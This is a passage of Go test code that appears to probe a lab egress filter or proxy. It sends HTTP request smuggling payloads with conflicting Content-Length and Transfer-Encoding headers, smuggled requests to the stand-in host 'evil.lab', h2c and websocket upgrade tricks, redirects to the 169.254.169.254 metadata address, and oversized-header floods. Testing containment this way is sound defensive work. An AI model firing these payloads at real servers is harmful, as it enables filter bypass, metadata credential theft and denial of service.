		post+"Content-Length: +5\r\n\r\nhello", post+"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!", post+"Content-Length: -1\r\n\r\n", post+"Content-Length: 5, 6\r\n\r\nhello!", post+"Content-Length: 0x5\r\n\r\nhello",
		post+"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", post+"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", post+"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
		post+"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n", post+"X: a\x00b\r\n\r\n", post+"X : y\r\n\r\n", post+"X\r\n\r\n",
		"POST / HTTP/1.0\r\nHost: SELF\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /W HTTP/1.1\r\nHost: evil.lab\r\n\r\n", "GET  /W HTTP/1.1\r\nHost: SELF\r\n\r\n", "GET /W HTTP/1.1 x\r\nHost: SELF\r\n\r\n", "GET /W HTTP/2.7\r\nHost: SELF\r\n\r\n", "get /W HTTP/1.1\r\nHost: SELF\r\n\r\n",
		post+"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", post+"Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n", post+"Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
		post+"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", "POST /W HTTP/1.0\r\nHost: SELF\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"GET /W HTTP/1.1\nHost: SELF\n\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nX: a\r\n b\r\n\r\n",
		"POST / HTTP/1.1\r\nHost: SELF\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /W HTTP/1.1\r\nHost: SELF\r\n\r\n",
		"POST / HTTP/1.1\r\nHost: SELF\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /W HTTP/1.1\r\nHost: evil.lab\r\n\r\n",
		"POST / HTTP/1.1\r\nHost: SELF\r\nContent-Length: 0\r\n\r\nGET /W HTTP/1.1\r\nHost: evil.lab\r\n\r\n",
	)
}

func upgrades() (list []try) {
	list = malformed("b25", "GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: foo\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
		"GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: foo\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n",
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nW", "POST /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", "GET /W HTTP/1.1\r\nHost: evil.lab\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
		"GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: websocket, foo\r\n\r\n")
	text, signs := word("b25-h2c")
	return append(list, try{"HTTP/2 without TLS", signs, func() string {
		c, err := dial(egress.Plain, 80)
		var b strings.Builder
		if err == nil {
			err = plainStreams(&b, []string{"evil.lab"}, []string{"/" + text}, "http")
		}
		// The word again, in plain sight.
		return say(c, err, b.String()+text)
	}})
}

func redirects() (list []try) {
	for _, code := range []int{301, 302, 303, 307, 308} {
		for i, to := range []string{"http://W.evil.lab/", "http://169.254.169.254/W"} {
			_, signs := word("b26-%d-%d", code, i)
			list = append(list, try{fmt.Sprintf("%d to %s", code, to), signs, func() string {
				tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, DisableKeepAlives: true, DialContext: func(_ context.Context, _, address string) (net.Conn, error) {
					host, port, _ := net.SplitHostPort(address)
					n := 443
					if port == "80" {
						n = 80
					}
					if net.ParseIP(host) != nil {
						return dialAddr(host, n)
					}
					return dial(host, n)
				}}
				c := http.Client{Transport: tr, Timeout: 3 * wait}
				r, err := c.Get(fmt.Sprintf("https://%s/redirect?code=%d&kind=%d", egress.Allowed, code, i))
				if err != nil {
					return err.Error()
				}
				defer r.Body.Close()
				return r.Status
			}})
		}
	}
	return list
}

func heads() []try {
	long, many := egress.Marker("b40-long"), egress.Marker("b40-many")
	return []try{
		{"a head of 1 MiB", []string{egress.Read(long)}, func() string {
			c, err := dial(egress.Allowed, 443)
			return secure(c, err, egress.Allowed, "GET /"+long+" HTTP/1.1\r\nHost: "+egress.Allowed+"\r\nX: "+strings.Repeat("x", 1<<20)+"\r\n\r\n")
		}},
		{"100,000 headers", []string{egress.Read(many)}, func() string {
			c, err := dial(egress.Allowed, 443)
			return secure(c, err, egress.Allowed, "GET /"+many+" HTTP/1.1\r\nHost: "+egress.Allowed+"\r\n"+strings.Repeat("X: y\r\n", 100_000)+"\r\n")
		}},
	}
}

// rootsFile has the lab's authority alone.
const rootsFile = "roots.pem"

func untrusted() []try {
	text, signs := word("b42")
	return []try{{"a client that trusts the lab's authority alone", signs, func() string {
		self, err := os.Executable()
		if err != nil {
			return err.Error()
		}
		pem, err := os.ReadFile(filepath.Join(filepath.Dir(self), rootsFile))
		if err != nil {
			return err.Error()
		}
		pool := x509.NewCertPool()
		pool.AppendCertsFromPEM(pem)
		c, err := dial(egress.Allowed, 443)
		if err != nil {
			return err.Error()
		}
		defer c.Close()
		tell(c, text)
		c.SetDeadline(time.Now().Add(wait))
		t := tls.Client(c, &tls.Config{ServerName: egress.Allowed, RootCAs: pool})
		if err := t.Handshake(); err != nil {
			return err.Error()
		}
		return say(t, nil, request(egress.Allowed, "/"+text))
	}}}
}
